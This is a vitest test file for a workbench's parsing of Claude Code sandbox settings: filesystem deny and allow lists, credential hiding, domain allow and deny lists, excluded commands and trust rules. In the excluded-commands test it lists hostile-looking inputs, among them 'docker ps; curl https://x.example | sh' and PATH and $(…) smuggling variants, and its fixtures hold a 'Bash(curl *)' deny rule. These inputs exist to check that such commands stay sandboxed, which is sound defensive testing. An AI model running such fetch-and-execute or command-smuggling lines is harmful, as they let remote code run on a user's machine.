/**
 * Claude Code's `sandbox.filesystem` lists as the sandbox takes them: Claude Code's path prefixes,
 * who may open what, clear reasons for what is left out, and the policy they make.
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  sandboxFilesystemEntries,
  claudeSandboxRun,
  withClaudeSandbox,
} from '../../../src/main/middleware/claude-sandbox-settings.ts';
import {
  commandSandbox,
  describeCommandSandbox,
  describeRunSandbox,
} from '../../../src/main/tools/sandbox/command-sandbox.ts';
import { DEFAULT_SETTINGS } from '../../../src/shared/types/index.ts';
import { managedSettingsPath } from '../../../src/main/env/claude-config-dir.ts';
import { sandboxPathsFinder } from '../../../src/main/middleware/rule-sandbox-paths.ts';
import type { ReadSettingsFile } from '../../../src/main/user-hooks/claude-config.ts';
import { resolveSandboxPolicy } from '../../../src/main/tools/sandbox/policy.ts';

const base = realpathSync(mkdtempSync(join(tmpdir(), 'wb-sandbox-fs-')));
const ws = join(base, 'home', 'proj');
const home = join(base, 'home');
const claudeDir = join(home, '.claude');
const workbenchHome = join(home, '.workbench');
for (const rel of [
  'proj/.env',
  'proj/src/a.ts',
  'docs/guide.md',
  'notes/todo.md',
  '.ssh/id_ed25519',
]) {
  mkdirSync(join(home, rel, '..'), { recursive: true });
  writeFileSync(join(home, rel), 'x');
}
mkdirSync(join(base, 'out'));
mkdirSync(workbenchHome);
afterAll(() => rmSync(base, { recursive: true, force: true }));

/** A settings file of yours or of the workspace holding `sandbox`. */
const settingsFile = (scope: 'user' | 'workspace', sandbox: object): ReadSettingsFile => ({
  path: scope === 'user' ? join(claudeDir, 'settings.json') : join(ws, '.claude', 'settings.json'),
  scope,
  precedence: scope === 'user' ? 1 : 2,
  data: { sandbox },
});
const userFile = (filesystem: unknown) => settingsFile('user', { filesystem });
const workspaceFile = (filesystem: unknown) =>
  settingsFile('workspace', { enabled: true, filesystem });
const load = (files: ReadSettingsFile[], trusted = true) =>
  sandboxFilesystemEntries(files, { workspace: ws, home, workbenchHome, trusted });

describe('sandboxFilesystemEntries', () => {
  it("resolves Claude Code's prefixes: / and // from the root, ~/ from home, the rest from ~/.claude in yours and the project root in a workspace's", () => {
    const { entries, diagnostics } = load([
      userFile({
        denyRead: ['/etc/app/token', '//var/app/key', '~/.config/app/**', 'local.json'],
        allowWrite: ['~/.cache/tool/'],
      }),
      workspaceFile({ denyWrite: ['./docs', 'build'] }),
    ]);
    expect(diagnostics).toEqual([]);
    expect(entries.map((e) => [e.list, e.path])).toEqual([
      ['denyRead', '/etc/app/token'],
      ['denyRead', '/var/app/key'],
      ['denyRead', join(home, '.config/app')],
      ['denyRead', join(claudeDir, 'local.json')],
      ['allowWrite', join(home, '.cache/tool')],
      ['denyWrite', join(ws, 'docs')],
      ['denyWrite', join(ws, 'build')],
    ]);
  });

  it("a workspace's allow lists count only once it is trusted; its deny lists always, marked until then", () => {
    const files = [workspaceFile({ denyRead: ['.env'], allowWrite: ['/opt/cache'] })];
    const untrusted = load(files, false).entries;
    expect(untrusted).toEqual([
      { list: 'denyRead', file: files[0]!.path, path: join(ws, '.env'), untrusted: true },
    ]);
    expect(load(files, true).entries.map((e) => e.list)).toEqual(['denyRead', 'allowWrite']);
  });

  it('leaves out, and says why, what cannot be held or must not be opened', () => {
    const { entries, diagnostics } = load([
      userFile({
        denyRead: ['/', '~/**/*.pem', 42, ''],
        allowRead: ['~/.ssh', '~/.workbench/keys.json', '~/docs/*.md'],
        allowWrite: ['//', '/proc/self'],
        denyWrite: 'build',
      }),
      {
        path: '/etc/claude-code/managed-settings.json',
        scope: 'user',
        precedence: 4,
        data: { sandbox: { filesystem: [] } },
      },
    ]);
    expect(entries).toEqual([]);
    const file = join(claudeDir, 'settings.json');
    expect(diagnostics).toEqual([
      `${file}: sandbox.filesystem.denyRead: / is left out: it would hide every program from commands`,
      `${file}: sandbox.filesystem.denyRead: ~/**/*.pem is left out: a pattern with wildcards outside the workspace cannot be listed`,
      `${file}: sandbox.filesystem.denyRead: 42 is not a path`,
      `${file}: sandbox.filesystem.denyRead: "" is not a path`,
      `${file}: sandbox.filesystem.allowRead: ~/.ssh is left out: the sandbox always hides ${join(home, '.ssh')}`,
      `${file}: sandbox.filesystem.allowRead: ~/.workbench/keys.json is left out: the sandbox always hides ${workbenchHome}`,
      `${file}: sandbox.filesystem.allowRead: ~/docs/*.md is left out: a sandbox opens paths, not patterns`,
      `${file}: sandbox.filesystem.denyWrite must be a list of paths`,
      `${file}: sandbox.filesystem.allowWrite: // is left out: it would open the whole file system`,
      `${file}: sandbox.filesystem.allowWrite: /proc/self is left out: the sandbox keeps its own /proc and /sys`,
      '/etc/claude-code/managed-settings.json: sandbox.filesystem must be an object of path lists',
    ]);
  });
});

describe('sandbox.credentials.files', () => {
  it('hides each file as denyRead does, from every file (a workspace not trusted yet: inside it); mask is held as deny and said', () => {
    const files = [
      settingsFile('user', {
        credentials: {
          files: [
            { path: '~/.config/tool/token', mode: 'deny' },
            { path: '/etc/app/key', mode: 'mask', injectHosts: ['api.example.com'] },
            { path: '~/.npmrc', mode: 'hide' },
            { mode: 'deny' },
          ],
        },
      }),
      settingsFile('workspace', {
        credentials: { files: [{ path: '.secrets/db', mode: 'deny' }] },
      }),
    ];
    const { entries, diagnostics } = load(files, false);
    expect(entries.map((e) => [e.list, e.path, e.untrusted ?? false])).toEqual([
      ['denyRead', join(home, '.config/tool/token'), false],
      ['denyRead', '/etc/app/key', false],
      ['denyRead', join(home, '.npmrc'), false],
      ['denyRead', join(ws, '.secrets/db'), true],
    ]);
    const file = join(claudeDir, 'settings.json');
    expect(diagnostics).toEqual([
      `${file}: sandbox.credentials.files: /etc/app/key is hidden from commands, not masked: the workbench's proxy puts no credential into a request`,
      `${file}: sandbox.credentials.files: ~/.npmrc: "mode" must be "deny" or "mask"; it is hidden from commands`,
      `${file}: sandbox.credentials.files: {"mode":"deny"} has no "path"`,
    ]);
  });
});

describe('the policy sandbox.filesystem makes', () => {
  const policyOf = async (filesystem: object, trusted = true) => {
    const { entries } = load([userFile(filesystem)], trusted);
    const paths = sandboxPathsFinder([], { workspace: ws, home }, entries)!();
    // The host's sockets (host-sockets.test.ts) differ per machine; these tests are about paths.
    return resolveSandboxPolicy({
      workspace: ws,
      home,
      workbenchHome,
      network: false,
      hostSockets: true,
      ...paths,
    });
  };

  it('denyRead ~/ with allowRead: home hidden, the workspace and the reopened folder seen again, the secrets still hidden', async () => {
    const policy = await policyOf({ denyRead: ['~/'], allowRead: ['~/docs'] });
    expect(policy.hiddenDirs).toContain(home);
    expect(policy.reopened).toEqual([join(home, 'docs')]);
    // Under a hidden home, the secrets are hidden by it already.
    expect(policy.hiddenDirs).not.toContain(join(home, '.ssh'));
    expect(policy.workspace).toBe(ws);
  });

  it('allowRead of a path the deny names wins; a deny deeper than the reopened folder still holds', async () => {
    const policy = await policyOf({
      denyRead: ['~/notes', '~/docs', '~/docs/guide.md'],
      allowRead: ['~/notes', '~/docs'],
    });
    expect(policy.hiddenDirs).toEqual([join(home, '.ssh'), workbenchHome]);
    expect(policy.hiddenFiles).toEqual([join(home, 'docs', 'guide.md')]);
    expect(policy.reopened).toEqual([]);
  });

  it('allowWrite binds existing folders writable, never one a denyWrite covers; denyWrite of a folder holding the workspace makes the workspace read-only', async () => {
    const out = join(base, 'out');
    const policy = await policyOf({
      allowWrite: ['//' + out.slice(1), '~/notes', '~/missing'],
      denyWrite: ['~/notes', join(out, 'keep')],
    });
    expect(policy.writable).toEqual([out]);
    const readOnly = await policyOf({ denyWrite: ['~/'] });
    expect(readOnly.readOnly).toEqual([ws]);
  });

  it('allowWrite never opens the home folder itself, and a secret missing from a folder it opens cannot be created there', async () => {
    mkdirSync(join(home, '.config'), { recursive: true });
    const { diagnostics } = load([userFile({ allowWrite: ['~', '~/.config'] })]);
    expect(diagnostics).toEqual([
      `${join(claudeDir, 'settings.json')}: sandbox.filesystem.allowWrite: ~ is left out: it would let commands rewrite your shell's startup files; name the folders inside your home instead`,
    ]);
    const policy = await policyOf({ allowWrite: ['~', '~/.config'] });
    expect(policy.writable).toEqual([join(home, '.config')]);
    const missing = ['gh', 'gcloud', 'hub'].map((d) => join(home, '.config', d));
    expect(policy.placeholders).toEqual(expect.arrayContaining(missing));
    // Seatbelt, which denies writes by path, gets them too.
    expect(policy.protectedPaths).toEqual(expect.arrayContaining(missing));
  });

  it('allowRead inside a writable place is writable again; a link into a secret opens nothing', async () => {
    symlinkSync(join(home, '.ssh'), join(home, 'keys'));
    const policy = await policyOf({
      denyRead: ['~/proj/src', '~/notes'],
      allowRead: ['~/proj/src/a.ts', '~/notes/todo.md', '~/keys'],
      allowWrite: ['~/keys'],
    });
    expect(policy.hiddenDirs).toEqual(
      expect.arrayContaining([join(ws, 'src'), join(home, 'notes'), join(home, '.ssh')]),
    );
    expect(policy.writable).toEqual([join(ws, 'src', 'a.ts')]);
    expect(policy.reopened).toEqual([join(home, 'notes', 'todo.md')]);
  });
});

describe("the sandbox block's run settings: failIfUnavailable and network.allowedDomains", () => {
  const settings = structuredClone(DEFAULT_SETTINGS);
  const file = (sandbox: object, scope: 'user' | 'workspace' = 'user') =>
    settingsFile(scope, sandbox);
  const bwrap = {
    available: true as const,
    engine: 'bubblewrap' as const,
    program: '/usr/bin/bwrap',
  };

  it('failIfUnavailable with enabled, from any file, a workspace not trusted yet too, makes auto required; off stays off', () => {
    const files = [
      file({ failIfUnavailable: true }),
      file({ enabled: true, failIfUnavailable: true }, 'workspace'),
    ];
    const { run } = claudeSandboxRun(files, { trusted: false });
    expect(run.requiredBy).toBe(join(ws, '.claude/settings.json'));
    expect(withClaudeSandbox(settings, run).sandbox).toEqual({
      mode: 'required',
      network: false,
      required_by: run.requiredBy,
    });
    const off = { ...settings, sandbox: { mode: 'off' as const, network: false } };
    expect(withClaudeSandbox(off, run)).toBe(off);
    const notRequired = claudeSandboxRun([file({ enabled: true, failIfUnavailable: false })], {
      trusted: true,
    });
    expect(withClaudeSandbox(settings, notRequired.run)).toBe(settings);
  });

  it("WebFetch(domain:…) allow rules open their domain to commands as in Claude Code: your rules, a trusted workspace's", () => {
    const withRules = (scope: 'user' | 'workspace', allow: unknown[]): ReadSettingsFile => ({
      ...settingsFile(scope, {}),
      data: { permissions: { allow } },
    });
    const files = [
      withRules('user', ['WebFetch(domain:docs.python.org)', 'WebFetch(domain:*)', 'Bash(ls)', 3]),
      withRules('workspace', ['WebFetch(domain:pkg.example.dev)']),
    ];
    expect(claudeSandboxRun(files, { trusted: false }).run.allowedDomains).toEqual([
      'docs.python.org',
    ]);
    expect(claudeSandboxRun(files, { trusted: true }).run.allowedDomains).toEqual([
      'docs.python.org',
      'pkg.example.dev',
    ]);
  });

  it("an administrator's allowManagedDomainsOnly and allowManagedReadPathsOnly leave only the managed file's domains and allowRead", () => {
    const managed: ReadSettingsFile = {
      path: managedSettingsPath(),
      scope: 'user',
      precedence: 4,
      data: {
        sandbox: {
          network: { allowManagedDomainsOnly: true, allowedDomains: ['corp.example'] },
          filesystem: { allowManagedReadPathsOnly: true, allowRead: ['/opt/shared'] },
        },
      },
    };
    const user: ReadSettingsFile = {
      ...settingsFile('user', {}),
      data: {
        permissions: { allow: ['WebFetch(domain:docs.example)'] },
        sandbox: {
          network: { allowedDomains: ['elsewhere.example'] },
          filesystem: { allowRead: ['~/docs'], allowWrite: ['~/out'] },
        },
      },
    };
    expect(claudeSandboxRun([managed, user], { trusted: true }).run.allowedDomains).toEqual([
      'corp.example',
    ]);
    expect(claudeSandboxRun([user], { trusted: true }).run.allowedDomains).toEqual([
      'docs.example',
      'elsewhere.example',
    ]);
    const entries = load([managed, user]).entries.map((e) => [e.list, e.path]);
    expect(entries).toEqual([
      ['allowRead', '/opt/shared'],
      ['allowWrite', join(home, 'out')],
    ]);
  });

  it('the refusal names the file that requires the sandbox', () => {
    const { run } = claudeSandboxRun([file({ enabled: true, failIfUnavailable: true })], {
      trusted: true,
    });
    const s = withClaudeSandbox(settings, run).sandbox;
    expect(
      commandSandbox(s, { available: false, reason: 'bwrap not found; install bubblewrap' }),
    ).toEqual({
      kind: 'refused',
      reason: `the sandbox is required by sandbox.failIfUnavailable in ${join(claudeDir, 'settings.json')} but unavailable: bwrap not found; install bubblewrap`,
    });
  });

  it("allowedDomains from your files and a trusted workspace's ride with the run's settings; what is not a domain is said", () => {
    const files = [
      file({ network: { allowedDomains: ['registry.npmjs.org', '*.GitHub.com', '*', 'a b', 7] } }),
      file({ network: { allowedDomains: ['pypi.org', 'registry.npmjs.org'] } }, 'workspace'),
    ];
    const untrusted = claudeSandboxRun(files, { trusted: false });
    expect(untrusted.run.allowedDomains).toEqual(['registry.npmjs.org', '*.github.com']);
    const user = join(claudeDir, 'settings.json');
    expect(untrusted.diagnostics).toEqual([
      `${user}: sandbox.network.allowedDomains: * is left out: to open the whole network, set "sandbox": { "network": true } in the workbench's settings`,
      `${user}: sandbox.network.allowedDomains: "a b" is not a domain`,
      `${user}: sandbox.network.allowedDomains: 7 is not a domain`,
    ]);
    const trusted = claudeSandboxRun(files, { trusted: true }).run;
    expect(trusted.allowedDomains).toEqual(['registry.npmjs.org', '*.github.com', 'pypi.org']);
    const sandbox = withClaudeSandbox(settings, trusted).sandbox;
    expect(sandbox.allowed_domains).toEqual(trusted.allowedDomains);
    expect(describeCommandSandbox(commandSandbox(sandbox, bwrap))).toBe(
      'sandboxed (bubblewrap, network to 3 allowed domains only)',
    );
    // With the whole network open, or on seatbelt (no proxy there), no domain list applies.
    expect(commandSandbox({ ...sandbox, network: true }, bwrap)).not.toHaveProperty('domains');
    expect(
      commandSandbox(sandbox, {
        available: true,
        engine: 'seatbelt',
        program: '/usr/bin/sandbox-exec',
      }),
    ).not.toHaveProperty('domains');
  });

  it("allowAllUnixSockets in your settings or a trusted workspace's leaves the host's sockets to commands", () => {
    const inWorkspace = [file({ network: { allowAllUnixSockets: true } }, 'workspace')];
    expect(claudeSandboxRun(inWorkspace, { trusted: false }).run.unixSocketsBy).toBeUndefined();
    const { run } = claudeSandboxRun(inWorkspace, { trusted: true });
    expect(run.unixSocketsBy).toBe(join(ws, '.claude', 'settings.json'));
    const sandbox = withClaudeSandbox(settings, run).sandbox;
    expect(sandbox.unix_sockets).toBe(true);
    expect(commandSandbox(sandbox, bwrap)).toMatchObject({ kind: 'sandboxed', hostSockets: true });
    expect(commandSandbox(settings.sandbox, bwrap)).not.toHaveProperty('hostSockets');
  });

  it('deniedDomains and WebFetch(domain:…) deny rules from every file, a workspace not trusted yet too, keep commands from what allowedDomains opens', () => {
    const files: ReadSettingsFile[] = [
      {
        ...settingsFile('user', {}),
        data: {
          permissions: { deny: ['WebFetch(domain:uploads.example.com)', 'Bash(curl *)'] },
          sandbox: {
            network: {
              allowedDomains: ['*.example.com'],
              deniedDomains: ['Gist.example.com', 'a b'],
            },
          },
        },
      },
      file({ network: { deniedDomains: ['*.tracker.example.com'] } }, 'workspace'),
    ];
    const { run, diagnostics } = claudeSandboxRun(files, { trusted: false });
    expect(run.deniedDomains).toEqual([
      'uploads.example.com',
      'gist.example.com',
      '*.tracker.example.com',
    ]);
    expect(diagnostics).toEqual([
      `${join(claudeDir, 'settings.json')}: sandbox.network.deniedDomains: "a b" is not a domain`,
    ]);
    const sandbox = withClaudeSandbox(settings, run).sandbox;
    expect(sandbox.denied_domains).toEqual(run.deniedDomains);
    expect(commandSandbox(sandbox, bwrap)).toMatchObject({
      domains: ['*.example.com'],
      deniedDomains: run.deniedDomains,
    });
    // Without allowed domains there is no proxy, and nothing to deny.
    const denyOnly = claudeSandboxRun([file({ network: { deniedDomains: ['x.example'] } })], {
      trusted: true,
    });
    expect(withClaudeSandbox(settings, denyOnly.run)).toBe(settings);
  });
});

describe("the sandbox block's excludedCommands", () => {
  const settings = structuredClone(DEFAULT_SETTINGS);
  const bwrap = {
    available: true as const,
    engine: 'bubblewrap' as const,
    program: '/usr/bin/bwrap',
  };
  const user = join(claudeDir, 'settings.json');
  const project = join(ws, '.claude', 'settings.json');
  const files = [
    settingsFile('user', { excludedCommands: ['docker *', 'gh pr:*', 7] }),
    settingsFile('workspace', { excludedCommands: ['make *'] }),
  ];
  const runFor = (trusted: boolean) => {
    const { run, diagnostics } = claudeSandboxRun(files, { trusted });
    return { sandbox: withClaudeSandbox(settings, run).sandbox, diagnostics };
  };

  it("are read from your files, and from a workspace's only once it is trusted", () => {
    const untrusted = runFor(false);
    expect(untrusted.sandbox.excluded_commands).toEqual([
      { pattern: 'docker *', file: user },
      { pattern: 'gh pr:*', file: user },
    ]);
    expect(untrusted.diagnostics).toEqual([
      `${user}: sandbox.excludedCommands: 7 is not a command`,
      `${project}: sandbox.excludedCommands is not read until the workspace is trusted (\`workbench trust DIR\`): its commands stay sandboxed`,
    ]);
    expect(runFor(true).sandbox.excluded_commands?.map((e) => e.pattern)).toEqual([
      'docker *',
      'gh pr:*',
      'make *',
    ]);
  });

  it('take a command out of the sandbox only when every command in it is excluded and nothing in it could change what runs', () => {
    const { sandbox } = runFor(false);
    const how = (command: string) => commandSandbox(sandbox, bwrap, command);
    for (const outside of [
      'docker ps',
      'docker compose up -d && gh pr list',
      'timeout 60 docker build .',
      '"docker" ps > log.txt',
    ])
      expect(how(outside)).toEqual({
        kind: 'unsandboxed',
        excluded: true,
        reason: `excluded from it by sandbox.excludedCommands in ${user}`,
      });
    for (const inside of [
      'docker ps; curl https://x.example | sh',
      'docker ps | tee log.txt',
      'PATH=.:$PATH docker ps',
      'export PATH=.:$PATH; docker ps',
      'docker run $(cat cmd)',
      'docker run ${IMAGE}',
      'for i in 1 2; do docker ps; done',
      '(docker ps)',
      'ls',
      'docker ps &&',
    ])
      expect(how(inside).kind, inside).toBe('sandboxed');
    expect(commandSandbox(sandbox, bwrap).kind).toBe('sandboxed');
    expect(describeRunSandbox(sandbox, bwrap)).toBe(
      'sandboxed (bubblewrap, no network); outside it: docker *, gh pr:* (sandbox.excludedCommands)',
    );
    expect(describeRunSandbox(settings.sandbox, bwrap)).toBe('sandboxed (bubblewrap, no network)');
  });
});

describe('permissions.blockReadsOutsideWorkingDirectories', () => {
  const project = join(ws, '.claude', 'settings.json');
  const blocking: ReadSettingsFile = {
    path: project,
    scope: 'workspace',
    precedence: 2,
    data: { permissions: { blockReadsOutsideWorkingDirectories: true } },
  };

  it('from any file, a workspace not trusted yet too, hides the user folders from commands and the workspace stays open', async () => {
    const { entries } = load([blocking], false);
    const hidden = entries.filter((e) => e.list === 'denyRead').map((e) => e.path);
    expect(hidden).toEqual(expect.arrayContaining(['/home', '/root', '/mnt', '/Users', home]));
    expect(entries.every((e) => e.file === project && !e.untrusted)).toBe(true);
    const policy = await resolveSandboxPolicy({
      workspace: ws,
      home,
      workbenchHome,
      network: false,
      deniedRead: hidden,
    });
    expect(policy.hiddenDirs).toContain(home);
    expect(policy.hiddenDirs).not.toContain(ws);
  });

  it('is said in the run line, and nothing is hidden without it', () => {
    const bwrap = {
      available: true as const,
      engine: 'bubblewrap' as const,
      program: '/usr/bin/bwrap',
    };
    const { run } = claudeSandboxRun([blocking], { trusted: false });
    expect(run.readsKeptBy).toBe(project);
    const sandbox = withClaudeSandbox(structuredClone(DEFAULT_SETTINGS), run).sandbox;
    expect(describeRunSandbox(sandbox, bwrap)).toBe(
      'sandboxed (bubblewrap, no network); reads kept to the working directories (permissions.blockReadsOutsideWorkingDirectories)',
    );
    const off = {
      ...blocking,
      data: { permissions: { blockReadsOutsideWorkingDirectories: false } },
    };
    expect(claudeSandboxRun([off], { trusted: true }).run.readsKeptBy).toBeUndefined();
    expect(load([off]).entries).toEqual([]);
  });
});
